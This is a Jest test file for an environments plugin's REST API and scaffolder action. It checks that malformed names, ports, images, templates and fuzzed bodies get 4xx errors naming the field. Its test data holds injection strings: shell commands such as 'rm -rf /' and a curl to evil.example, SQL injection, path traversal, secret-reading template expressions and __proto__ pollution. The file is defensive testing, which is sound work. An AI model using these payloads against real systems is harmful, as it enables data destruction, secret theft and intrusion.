/*
 * Bad input: hundreds of malformed requests to the REST API and the
 * scaffolder actions, malformed EnvironmentTemplates, and property-based
 * fuzzing. Every case must be answered with a 4xx that names the field,
 * never a 5xx, and nothing may be created.
 */
import { mockCredentials } from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import {
  sandboxClusterConfig,
  startSandbox,
  Sandbox,
} from '@envkit/cloud-sandbox';
import {
  environmentNameProblem,
  validateEnvironmentTemplate,
} from '@envkit/plugin-environments-common';
import { createEcsEnvironmentAction } from '@envkit/plugin-scaffolder-backend-module-environments';
import fc from 'fast-check';
import request from 'supertest';
import { printFigures } from './harness/api';
import { exampleTemplates } from './harness/entities';
import { startApiBackend } from './harness/inProcess';
import { lena, orgGroups, priya } from './harness/org';

const ECS = 'ecs-web-service';
const goodEcs = { imageLocation: 'nginx:1.27', containerPort: 8080 };

interface Case {
  group: string;
  label: string;
  body: unknown;
  /** The field the error message must start with. */
  field: string;
  path?: string;
}

const badNames: [string, unknown][] = [
  ['upper case', 'MyEnv'],
  ['mixed case', 'myEnv'],
  ['too long (21)', 'a'.repeat(21)],
  ['too long (300)', 'a'.repeat(300)],
  ['empty', ''],
  ['space', 'my env'],
  ['leading digit', '1env'],
  ['leading dash', '-env'],
  ['trailing dash', 'env-'],
  ['underscore', 'my_env'],
  ['dot', 'my.env'],
  ['unicode letters', 'prüfung'],
  ['unicode lookalike', 'аpp'],
  ['emoji', 'env🚀'],
  ['zero width', 'env\u200b'],
  ['rtl override', 'env\u202e'],
  ['reserved default', 'default'],
  ['reserved envkit', 'envkit'],
  ['reserved kube-system', 'kube-system'],
  ['reserved kube-public', 'kube-public'],
  ['reserved prefix kube-', 'kube-x'],
  ['reserved prefix envkit-', 'envkit-x'],
  ['reserved prefix internal-', 'internal-lb'],
  ['path traversal', '../etc/passwd'],
  ['path traversal encoded', '..%2f..%2fetc'],
  ['slash', 'a/b'],
  ['backslash', 'a\\b'],
  ['shell semicolon', 'a;rm -rf /'],
  ['shell subst', '$(id)'],
  ['shell backtick', '`id`'],
  ['shell pipe', 'a|b'],
  ['shell ampersand', 'a&&b'],
  ['SQL quote', "a' OR '1'='1"],
  ['SQL comment', 'a--'],
  ['SQL drop', 'x;DROP TABLE environments'],
  ['newline', 'a\nb'],
  ['NUL byte', 'a\u0000b'],
  ['tab', 'a\tb'],
  ['expression', '${{ environment.id }}'],
  ['html', '<script>'],
  ['number', 42],
  ['boolean', true],
  ['null', null],
  ['array', ['env']],
  ['object', { name: 'env' }],
  ['missing', undefined],
];

const badPorts: [string, unknown][] = [
  ['0', 0],
  ['65536', 65536],
  ['-1', -1],
  ['1e6', 1e6],
  ['1.5', 1.5],
  ['NaN-like string', 'NaN'],
  ['word', 'http'],
  ['empty string', ''],
  ['shell', '80; rm -rf /'],
  ['hex', '0x50'],
  ['array', [80]],
  ['object', { port: 80 }],
  ['boolean', true],
  ['huge string', '9'.repeat(400)],
  ['negative string', '-80'],
  ['string 65536', '65536'],
];

const badImages: [string, unknown][] = [
  ['empty', ''],
  ['too short', 'ab'],
  ['number', 12345],
  ['array', ['nginx']],
  ['object', {}],
  ['null', null],
  ['huge (5000)', 'a'.repeat(5000)],
];

/** Injection-looking images: a finding when the template accepts them. */
const suspiciousImages: [string, string][] = [
  ['space', 'nginx latest'],
  ['shell semicolon', 'nginx;rm -rf /'],
  ['shell subst', 'nginx$(curl evil.example)'],
  ['backtick', 'nginx`id`'],
  ['newline', 'nginx\nUSER root'],
  ['expression', '${{ secrets.token }}'],
  ['CloudFormation intrinsic', '{"Fn::GetAtt":["X","Arn"]}'],
  ['quote', 'nginx" --privileged "'],
];

/** A valid create request with `change` applied: each case states only what is wrong. */
function createBody(change: Record<string, unknown> = {}) {
  return { name: 'ok-env', templateRef: ECS, inputs: goodEcs, ...change };
}

/** A valid create request whose ECS inputs carry `change`. */
function withInputs(change: Record<string, unknown>) {
  return createBody({ inputs: { ...goodEcs, ...change } });
}

function createCases(): Case[] {
  const cases: Case[] = [];
  // One bad value per case, in the field the error must then name.
  const badValues: [
    string,
    string,
    [string, unknown][],
    (v: unknown) => unknown,
  ][] = [
    ['name', 'name', badNames, name => createBody({ name })],
    [
      'port',
      'containerPort',
      badPorts,
      port => withInputs({ containerPort: port }),
    ],
    [
      'image',
      'imageLocation',
      badImages,
      image => withInputs({ imageLocation: image }),
    ],
  ];
  for (const [group, field, values, body] of badValues) {
    for (const [label, value] of values) {
      cases.push({ group, label, body: body(value), field });
    }
  }
  const others: [string, unknown, string][] = [
    [
      'missing image',
      createBody({ inputs: { containerPort: 80 } }),
      'imageLocation',
    ],
    ['locked region', withInputs({ region: 'eu-west-1' }), 'region'],
    ['restricted cpu', withInputs({ cpu: '4096' }), 'cpu'],
    ['restricted memory', withInputs({ memory: '1' }), 'memory'],
    ['unknown input', withInputs({ privileged: true }), 'privileged'],
    ['inputs array', createBody({ inputs: ['x'] }), 'inputs'],
    ['inputs string', createBody({ inputs: 'x' }), 'inputs'],
    ['ttl word', createBody({ ttl: 'forever' }), 'ttl'],
    ['ttl too long', createBody({ ttl: 'P30D' }), 'ttl'],
    ['ttl negative', createBody({ ttl: '-PT1H' }), 'ttl'],
    ['ttl number', createBody({ ttl: 3600 }), 'ttl'],
    ['owner garbage', createBody({ owner: ':::' }), 'owner'],
    ['owner empty', createBody({ owner: '' }), 'owner'],
    ['component empty', createBody({ component: '' }), 'component'],
    ['component number', createBody({ component: 5 }), 'component'],
    ['templateRef empty', createBody({ templateRef: '' }), 'templateRef'],
    ['templateRef number', createBody({ templateRef: 7 }), 'templateRef'],
    // Not a name the catalog allows: 400 naming the field.
    [
      'templateRef traversal',
      createBody({ templateRef: '../../etc' }),
      'templateRef',
    ],
    [
      'templateRef NUL',
      createBody({ templateRef: 'web\u0000' }),
      'templateRef',
    ],
    [
      'component not a ref',
      createBody({ component: 'not a ref!!' }),
      'component',
    ],
    ['name object', createBody({ name: { toString: 1 } }), 'name'],
    // 404 naming the template it could not find.
    [
      'templateRef unknown',
      createBody({ templateRef: 'nope' }),
      'environment template',
    ],
    ['extra field', createBody({ admin: true }), 'admin'],
    ['body array', [1, 2], ''],
    ['body string', 'hello', ''],
  ];
  for (const [label, body, field] of others) {
    cases.push({ group: 'other fields', label, body, field });
  }
  return cases;
}

/** Malformed EnvironmentTemplates and the field each error must name. */
function malformedTemplates(): [string, Entity, string][] {
  const base = () => JSON.parse(JSON.stringify(exampleTemplates()[0])) as any;
  const out: [string, Entity, string][] = [];
  const mk = (label: string, field: string, change: (t: any) => void) => {
    const t = base();
    t.metadata.name = `bad-${out.length}`;
    change(t);
    out.push([label, t, field]);
  };
  mk('dependsOn cycle', 'spec.resources', t => {
    t.spec.resources[0].dependsOn = ['service'];
  });
  mk('self dependency', 'spec.resources', t => {
    t.spec.resources[0].dependsOn = ['network'];
  });
  mk('unknown dependsOn', 'spec.resources', t => {
    t.spec.resources[1].dependsOn = ['nothing'];
  });
  mk('unknown driver', 'spec.resources[0].driver', t => {
    t.spec.resources[0].driver = 'terraform';
  });
  mk('duplicate resource names', 'spec.resources', t => {
    t.spec.resources[1].name = 'network';
  });
  mk('output of a missing resource', 'spec.outputs', t => {
    t.spec.outputs.endpoint = '${{ resources.nothing.outputs.Endpoint }}';
  });
  mk('unknown input reference', 'spec.resources', t => {
    t.spec.resources[1].parameters.parameters.ImageLocation =
      '${{ inputs.nope }}';
  });
  mk('secret reference', 'spec', t => {
    t.spec.resources[0].parameters.region =
      '${{ secrets.AWS_SECRET_ACCESS_KEY }}';
  });
  mk('env var reference', 'spec', t => {
    t.spec.resources[0].parameters.region = '${{ process.env.HOME }}';
  });
  mk('code in expression', 'spec', t => {
    t.spec.resources[0].parameters.region = "${{ require('child_process') }}";
  });
  mk('unterminated expression', 'spec', t => {
    t.spec.resources[0].parameters.region = '${{ inputs.region';
  });
  mk('no resources', 'spec.resources', t => {
    t.spec.resources = [];
  });
  mk('missing resources', 'spec.resources', t => {
    delete t.spec.resources;
  });
  mk('bad version', 'spec.version', t => {
    t.spec.version = 'one';
  });
  mk('missing version', 'spec.version', t => {
    delete t.spec.version;
  });
  mk('bad owner', 'spec.owner', t => {
    t.spec.owner = '';
  });
  mk('bad resource name', 'spec.resources', t => {
    t.spec.resources[0].name = 'Bad Name!';
  });
  mk('parameter with bad type', 'spec.parameters', t => {
    t.spec.parameters.properties.containerPort.type = 'port';
  });
  mk('default outside enum', 'spec.parameters', t => {
    t.spec.parameters.properties.cpu.default = '4096';
  });
  mk('__proto__ parameter', 'spec.parameters', t => {
    t.spec.parameters.properties = JSON.parse(
      '{"__proto__":{"type":"string"}}',
    );
  });
  mk('bad ttl guardrail', 'spec.guardrails', t => {
    t.spec.guardrails.ttl.max = 'forever';
  });
  mk('10 MB template', 'template', t => {
    t.spec.description = 'x'.repeat(10 * 1024 * 1024);
  });
  mk('60 resources', 'spec.resources', t => {
    t.spec.resources = Array.from({ length: 60 }, (_, i) => ({
      name: `r${i}`,
      driver: 'aws-cloudformation',
      parameters: { template: 'builtin:network' },
    }));
  });
  return out;
}

jest.setTimeout(180_000);

describe('bad input', () => {
  let sandbox: Sandbox;
  let server: any;
  const figures: Record<string, string | number> = {};
  const fiveHundreds: string[] = [];

  beforeAll(async () => {
    sandbox = await startSandbox({ port: 0, profile: 'fast' });
    const bad = malformedTemplates().filter(
      ([label]) => label !== '10 MB template',
    );
    ({ server } = await startApiBackend({
      entities: [...exampleTemplates(), ...bad.map(([, t]) => t)],
      groups: orgGroups,
      config: {
        environments: {
          engine: { intervalSeconds: 3600 },
          aws: { endpoint: sandbox.url },
          kubernetes: { clusters: [sandboxClusterConfig(sandbox)] },
        },
        aws: { mainAccount: { accessKeyId: 'x', secretAccessKey: 'y' } },
      },
    }));
  });

  afterAll(async () => {
    await sandbox?.stop();
    printFigures('bad input', figures);
  });

  const post = (path: string, body: unknown, user = lena) =>
    request(server)
      .post(`/api/environments${path}`)
      .set('Authorization', mockCredentials.user.header(user))
      .set('Content-Type', 'application/json')
      .send(JSON.stringify(body));

  function check(label: string, res: request.Response, field: string) {
    const message: string = res.body?.error?.message ?? '';
    if (res.status >= 500)
      fiveHundreds.push(`${label}: ${res.status} ${message}`);
    return {
      ok: res.status >= 400 && res.status < 500 && message.includes(field),
      detail: `${label}: ${res.status} ${message.slice(0, 160)}`,
    };
  }

  it('rejects bad create requests with a 4xx naming the field', async () => {
    const cases = createCases();
    const failures: string[] = [];
    for (const c of cases) {
      for (const path of ['/environments', '/environments/preview']) {
        const res = await post(path, c.body);
        const { ok, detail } = check(
          `${c.group}/${c.label} ${path}`,
          res,
          c.field,
        );
        if (!ok) failures.push(detail);
      }
    }
    figures['REST create/preview cases'] = cases.length * 2;
    figures['  of which wrong answer'] = failures.length;
    expect(failures).toEqual([]);
  });

  it('refuses a __proto__ input with a 400 naming it', async () => {
    // Sent as raw JSON so the key survives serialisation.
    const raw = `{"name":"ok-env","templateRef":"${ECS}","inputs":{"imageLocation":"nginx:1.27","__proto__":{"polluted":1}}}`;
    const res = await request(server)
      .post('/api/environments/environments/preview')
      .set('Authorization', mockCredentials.user.header(lena))
      .set('Content-Type', 'application/json')
      .send(raw);
    figures['__proto__ input refused (finding F4, fixed)'] = String(
      res.status === 400,
    );
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(/^inputs\.__proto__: /);
    expect(({} as any).polluted).toBeUndefined();
  });

  it('reports whether injection-looking images are accepted', async () => {
    const accepted: string[] = [];
    for (const [label, image] of suspiciousImages) {
      // Preview: every check a create makes, nothing recorded.
      const res = await post('/environments/preview', {
        name: 'ok-env',
        templateRef: ECS,
        inputs: { ...goodEcs, imageLocation: image },
      });
      const { ok } = check(`image ${label}`, res, 'imageLocation');
      if (!ok) accepted.push(`${label} (${res.status})`);
    }
    figures['injection-looking images'] = suspiciousImages.length;
    figures['  accepted by ecs-web-service (finding F3)'] = accepted.length;
    // eslint-disable-next-line no-console
    console.log(`images accepted as valid input: ${accepted.join(', ')}`);
    expect(accepted).toEqual([]);
  });

  it('rejects bad PATCH, extend and list requests and bad ids', async () => {
    const made = await post('/environments', {
      name: 'probe',
      templateRef: ECS,
      inputs: goodEcs,
    });
    expect(made.status).toBe(202);
    const id = made.body.id;
    const as = mockCredentials.user.header(lena);
    const cases: [string, () => request.Test, string][] = [
      [
        'patch port 0',
        () =>
          request(server)
            .patch(`/api/environments/environments/${id}`)
            .set('Authorization', as)
            .send({ inputs: { containerPort: 0 } }),
        'containerPort',
      ],
      [
        'patch unknown field',
        () =>
          request(server)
            .patch(`/api/environments/environments/${id}`)
            .set('Authorization', as)
            .send({ name: 'x' }),
        'name',
      ],
      [
        'patch inputs array',
        () =>
          request(server)
            .patch(`/api/environments/environments/${id}`)
            .set('Authorization', as)
            .send({ inputs: [] }),
        'inputs',
      ],
      [
        'patch locked',
        () =>
          request(server)
            .patch(`/api/environments/environments/${id}`)
            .set('Authorization', as)
            .send({ inputs: { region: 'x' } }),
        'region',
      ],
      [
        'extend no ttl',
        () =>
          request(server)
            .post(`/api/environments/environments/${id}/extend`)
            .set('Authorization', as)
            .send({}),
        'ttl',
      ],
      [
        'extend bad ttl',
        () =>
          request(server)
            .post(`/api/environments/environments/${id}/extend`)
            .set('Authorization', as)
            .send({ ttl: 'P1Y' }),
        'ttl',
      ],
      [
        'extend ttl object',
        () =>
          request(server)
            .post(`/api/environments/environments/${id}/extend`)
            .set('Authorization', as)
            .send({ ttl: { a: 1 } }),
        'ttl',
      ],
      [
        'list limit 0',
        () =>
          request(server)
            .get('/api/environments/environments?limit=0')
            .set('Authorization', as),
        'limit',
      ],
      [
        'list limit word',
        () =>
          request(server)
            .get('/api/environments/environments?limit=ten')
            .set('Authorization', as),
        'limit',
      ],
      [
        'list phase',
        () =>
          request(server)
            .get('/api/environments/environments?phase=Dead')
            .set('Authorization', as),
        'phase',
      ],
      [
        'list owner twice',
        () =>
          request(server)
            .get('/api/environments/environments?owner=a&owner=b')
            .set('Authorization', as),
        'owner',
      ],
      [
        'get traversal id',
        () =>
          request(server)
            .get('/api/environments/environments/..%2F..%2Fetc')
            .set('Authorization', as),
        'environment',
      ],
      [
        'get SQL id',
        () =>
          request(server)
            .get(
              `/api/environments/environments/${encodeURIComponent(
                "' OR 1=1 --",
              )}`,
            )
            .set('Authorization', as),
        'environment',
      ],
      [
        'idempotency key too long',
        () =>
          request(server)
            .post('/api/environments/environments')
            .set('Authorization', as)
            .set('Idempotency-Key', 'k'.repeat(300))
            .send({ name: 'x-env', templateRef: ECS, inputs: goodEcs }),
        'Idempotency-Key',
      ],
      [
        'body too large',
        () =>
          request(server)
            .post('/api/environments/environments')
            .set('Authorization', as)
            .set('Content-Type', 'application/json')
            .send(
              JSON.stringify({
                name: 'big-env',
                templateRef: ECS,
                inputs: { imageLocation: 'x'.repeat(400_000) },
              }),
            ),
        '',
      ],
      [
        'invalid JSON',
        () =>
          request(server)
            .post('/api/environments/environments')
            .set('Authorization', as)
            .set('Content-Type', 'application/json')
            .send('{"name":'),
        '',
      ],
    ];
    const failures: string[] = [];
    for (const [label, run, field] of cases) {
      const res = await run();
      const { ok, detail } = check(label, res, field);
      if (!ok) failures.push(detail);
    }
    // Clean up the probe so the "nothing created" check below stays exact.
    await request(server)
      .delete(`/api/environments/environments/${id}`)
      .set('Authorization', as);
    figures['PATCH/extend/list/id cases'] = cases.length;
    figures['  of which wrong answer '] = failures.length;
    expect(failures).toEqual([]);
  });

  it('rejects malformed EnvironmentTemplates naming the field, in validation and in /templates', async () => {
    const failures: string[] = [];
    const templates = malformedTemplates();
    for (const [label, entity, field] of templates) {
      try {
        validateEnvironmentTemplate(entity, {
          knownDrivers: ['aws-cloudformation', 'kubernetes-namespace'],
        });
        failures.push(`${label}: accepted`);
      } catch (error) {
        const e = error as Error;
        if (e.name !== 'InputError' || !e.message.includes(field)) {
          failures.push(`${label}: ${e.name} ${e.message.slice(0, 160)}`);
        }
      }
    }
    // The same templates in the catalog: listed as invalid, unusable.
    const list = await request(server)
      .get('/api/environments/templates')
      .set('Authorization', mockCredentials.user.header(lena));
    expect(list.status).toBe(200);
    const invalid = list.body.items.filter((t: any) => !t.valid);
    for (const t of invalid) {
      const res = await post('/environments', {
        name: 'from-bad',
        templateRef: t.ref,
        inputs: goodEcs,
      });
      const { ok, detail } = check(`create from ${t.ref}`, res, '');
      if (!ok) failures.push(detail);
    }
    figures['malformed templates (validateEnvironmentTemplate)'] =
      templates.length;
    figures['malformed templates listed invalid by /templates'] =
      invalid.length;
    figures['  of which wrong answer  '] = failures.length;
    expect(invalid).toHaveLength(templates.length - 1);
    expect(failures).toEqual([]);
  });

  it('rejects bad input to the scaffolder action env:create-ecs', async () => {
    const created: string[] = [];
    const http = async (method: string, path: string, body?: unknown) => {
      const res = await request(server)
        [method as 'post'](`/api/environments${path}`)
        .set('Authorization', mockCredentials.user.header(lena))
        .send(body as object);
      if (res.status >= 400) {
        const error = new Error(res.body?.error?.message ?? String(res.status));
        error.name = res.body?.error?.name ?? 'Error';
        throw error;
      }
      return res.body;
    };
    const action = createEcsEnvironmentAction({
      environments: {
        createEnvironment: async req => {
          const env = await http('post', '/environments', req);
          created.push(env.id);
          return env;
        },
        previewEnvironment: req => http('post', '/environments/preview', req),
        getEnvironment: id => http('get', `/environments/${id}`),
        listEnvironmentEvents: async () => [],
        listEnvironments: async () => ({ items: [], totalCount: 0 }),
        deleteEnvironment: id => http('delete', `/environments/${id}`),
        getTemplate: ref => http('get', `/templates/${ref}`),
      },
      pollIntervalMs: 10,
    });
    const failures: string[] = [];
    const actionCases: [string, Record<string, unknown>, string][] = [
      ...badNames
        .filter(([, v]) => typeof v === 'string')
        .map(
          ([l, v]) =>
            [`name ${l}`, { name: v }, 'name'] as [
              string,
              Record<string, unknown>,
              string,
            ],
        ),
      ...badPorts
        .filter(([, v]) => typeof v === 'number')
        .map(
          ([l, v]) =>
            [
              `port ${l}`,
              { name: 'ok-env', containerPort: v },
              'containerPort',
            ] as [string, Record<string, unknown>, string],
        ),
      ['image empty', { name: 'ok-env', imageLocation: '' }, 'imageLocation'],
      ['ttl', { name: 'ok-env', ttl: 'forever' }, 'ttl'],
      ['owner', { name: 'ok-env', owner: ':::' }, 'owner'],
    ];
    for (const [label, input, field] of actionCases) {
      const ctx: any = {
        input: { imageLocation: 'nginx:1.27', wait: false, ...input },
        logger: {
          info() {},
          warn() {},
          error() {},
          debug() {},
          child() {
            return this;
          },
        },
        checkpoint: async ({ fn }: any) => fn(),
        output() {},
        getInitiatorCredentials: async () => mockCredentials.user(lena),
        task: { id: `task-${label}` },
        user: { ref: lena },
      };
      try {
        await action.handler(ctx);
        failures.push(`${label}: accepted`);
      } catch (error) {
        const e = error as Error;
        if (!e.message.includes(field) || /5\d\d/.test(e.name)) {
          failures.push(`${label}: ${e.name} ${e.message.slice(0, 160)}`);
        }
      }
    }
    figures['scaffolder action cases'] = actionCases.length;
    figures['  of which wrong answer   '] = failures.length;
    expect(failures).toEqual([]);
    expect(created).toEqual([]);
  });

  it('holds under property-based fuzzing (fast-check)', async () => {
    let runs = 0;
    // Any name: accepted by preview exactly when the naming rule accepts it,
    // otherwise a 400 naming `name`.
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 30 }),
          fc.fullUnicodeString({ maxLength: 25 }),
          fc.stringMatching(/^[a-z][a-z0-9-]{0,24}$/),
        ),
        async name => {
          runs += 1;
          const res = await post('/environments/preview', {
            name,
            templateRef: ECS,
            inputs: goodEcs,
          });
          if (environmentNameProblem(name)) {
            return (
              res.status === 400 && res.body.error.message.startsWith('name')
            );
          }
          return res.status === 200;
        },
      ),
      { numRuns: 150 },
    );
    // Any port outside 1..65535 is refused naming containerPort.
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(fc.integer({ max: 0 }), fc.integer({ min: 65536 })),
        async port => {
          runs += 1;
          const res = await post('/environments/preview', {
            name: 'ok-env',
            templateRef: ECS,
            inputs: { ...goodEcs, containerPort: port },
          });
          return (
            res.status === 400 &&
            res.body.error.message.includes('containerPort')
          );
        },
      ),
      { numRuns: 60 },
    );
    // Any JSON body: never a 5xx.
    await fc.assert(
      fc.asyncProperty(fc.jsonValue({ maxDepth: 3 }), async body => {
        runs += 1;
        const res = await post('/environments/preview', body);
        return res.status < 500;
      }),
      { numRuns: 100 },
    );
    figures['fast-check runs'] = runs;
    expect(fiveHundreds).toEqual([]);
  });

  it('created nothing', async () => {
    const list = await request(server)
      .get('/api/environments/environments?limit=1000')
      .set('Authorization', mockCredentials.user.header(priya));
    // Only the probe of the PATCH cases exists, and it is being destroyed.
    const live = list.body.items.filter(
      (e: any) => !e.spec.deletionRequestedAt,
    );
    figures['environments left'] = live.length;
    figures['stacks in the sandbox'] = sandbox.controls.inventory().length;
    figures['5xx answers'] = fiveHundreds.length;
    expect(live).toEqual([]);
    expect(sandbox.controls.inventory()).toEqual([]);
    expect(fiveHundreds).toEqual([]);
  });
});
